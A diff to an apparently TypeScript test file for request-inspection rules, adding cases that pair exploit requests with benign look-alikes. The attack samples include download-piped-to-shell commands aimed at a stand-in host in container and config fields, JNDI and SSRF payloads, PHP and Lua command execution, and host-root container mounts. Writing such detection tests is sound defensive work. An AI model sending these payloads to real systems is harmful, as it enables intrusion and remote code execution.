@@ -1,5 +1,5 @@
 /**
- * Rules of rev 2026-12-04b (issue 18, generalization): each describes an exploit *mechanism* — a
+ * Rules of revs 2026-12-04b–d (issue 18, generalization): each describes an exploit *mechanism* — a
  * command injected after a short value, a reverse shell, a language's process primitive, a template
  * engine's object chain, a template included by URL — not one product's request. Each fires on its
  * attack wherever the value sits (query, form, JSON, XML, header) and stays quiet on the benign text
@@ -72,6 +72,23 @@ const CASES: Array<[number, string, RequestSpec, RequestSpec]> = [
   [9001329, 'an H2 trigger with a JavaScript body', json('{"db":"zip:/app/x.jar!/s.db;TRACE_LEVEL_SYSTEM_OUT=1\\\\;CREATE TRIGGER T BEFORE SELECT ON INFORMATION_SCHEMA.TABLES AS $$//javascript\\njava.lang.Runtime.getRuntime().exec(\'id\')\\n$$--=x"}'), json('{"sql":"CREATE TRIGGER audit_t AFTER INSERT ON orders FOR EACH ROW CALL \\"com.example.AuditTrigger\\""}')],
   [9001507, 'the TeamCity token path ending in /RPC2', { method: 'POST', url: '/app/rest/users/id:1/tokens/RPC2' }, { method: 'POST', url: '/app/rest/users/id:1/tokens/ci-token' }],
   [9001508, 'a JSON object granting roles twice', { method: 'PUT', url: '/_users/org.couchdb.user:x', headers: JSON_HEADERS, body: '{"type":"user","name":"x","roles":["_admin"],"roles":[],"password":"p"}' }, { method: 'PUT', url: '/db/_security', headers: JSON_HEADERS, body: '{"admins":{"names":[],"roles":["ops","dba"]},"members":{"names":[],"roles":["dev"]}}' }],
+  // rev 2026-12-04d (session 9): the mechanisms of held-out-3's misses
+  [9000320, 'a container Cmd argv running a download piped to a shell', json('{"Image":"alpine","Cmd":["/bin/sh","-c","wget -q -O- http://x.test/a|sh"],"HostConfig":{}}'), json('{"command":["/bin/sh","-c","npm ci && npm test"]}')],
+  [9000320, 'a service-check Args argv running a probe', json('{"ID":"w","Check":{"Args":["sh","-c","uname -a"],"Interval":"10s"}}'), json('{"ID":"w","Check":{"Args":["/usr/local/bin/check_disk","-w","10%"],"Interval":"10s"}}')],
+  [9000320, 'an argv chrooting into the host mount', json('{"Cmd":[\n  "/bin/sh",\n  "-c",\n  "chroot /mnt sh -c \'curl -O http://x.test/a\'"\n]}'), json('{"args":["bash","-c","curl -fsS http://127.0.0.1:8080/healthz"]}')],
+  [9000321, 'a binary-path setting pointed at sh -c with a download piped to a shell', form('_step=2&_im_convert_path=%2Fbin%2Fsh+-c+%27wget+-q+-O-+http%3A%2F%2Fx.test%2Fa%7Csh%27+%23&submit=UPDATE'), form('_step=2&_im_convert_path=%2Fusr%2Fbin%2Fconvert&_im_identify_path=%2Fusr%2Fbin%2Fidentify')],
+  [9000321, 'a JSON value that is sh -c with a probe', json('{"hook":"sh -c \'id\'"}'), json('{"hook":"sh -c \'make test\'"}')],
+  [9000522, 'an OpenID Connect request_uri naming a private address', { url: '/realms/master/protocol/openid-connect/auth?client_id=account&response_type=code&request_uri=http%3A%2F%2F10.0.0.1%3A9990%2Finfo' }, { url: '/realms/master/protocol/openid-connect/auth?client_id=app&response_type=code&redirect_uri=http%3A%2F%2Flocalhost%3A3000%2Fcallback' }],
+  [9000523, 'a registered jwks_uri on the loopback', json('{"client_name":"x","jwks_uri":"http://127.0.0.1:8080/admin"}'), json('{"client_name":"x","jwks_uri":"https://app.example.com/.well-known/jwks.json","redirect_uris":["http://localhost:3000/cb"]}')],
+  [9001017, 'a Jackson wrapper array naming a JNDI gadget', json('["ch.qos.logback.core.db.JNDIConnectionSource",{"jndiLocation":"ldap://x.test:1389/E"}]'), json('["com.example.model.Directory",{"url":"https://dir.example.com","type":"ldap"}]')],
+  [9001332, 'a Lua filter function running os.execute', json('{"uri":"/x","filter_func":"function(vars) os.execute(\'id\'); return true end"}'), json('{"body":"In Lua, os.execute(\'clear\') clears the screen"}')],
+  [9001332, 'a Lua io.popen fed from request args', json('{"script":"local f = assert(io.popen(args.cmd, \'r\'))"}'), json('{"doc":"io.popen(prog) returns a file handle"}')],
+  [9001333, 'a PHP exec function as a hook parameter', form('sid=x&hhook=exec&text=id'), form('hook=after_save&callback=refreshList')],
+  [9001333, 'a PHP exec function as a callback in the query', q('callback=system&arg=id'), q('callback=jQuery1830_1712&_=1712')],
+  [9001334, 'PHP code in an odd header', header('User-Agentt', "zerodiumsystem('id');"), header('X-Note', 'call system() to run it')],
+  [9001334, 'phpinfo() in a header', header('X-Debug', 'phpinfo();'), header('User-Agent', 'Mozilla/5.0 (compatible; MSIE 9.0; Windows NT 6.1; Trident/5.0)')],
+  [9001509, 'a container binding the host root', json('{"Image":"alpine","HostConfig":{"Binds":["/:/mnt:rw"],"Privileged":true}}'), json('{"Image":"nginx","HostConfig":{"Binds":["/srv/www:/usr/share/nginx/html:ro"]}}')],
+  [9001509, 'a pod mounting the host root by hostPath', json('{"spec":{"volumes":[{"name":"h","hostPath":{"path":"/"}}]}}'), json('{"spec":{"volumes":[{"name":"d","hostPath":{"path":"/var/log/app"}}]}}')],
 ];
 
 describe('bundled rules for exploit mechanisms (issue 18, generalization)', () => {
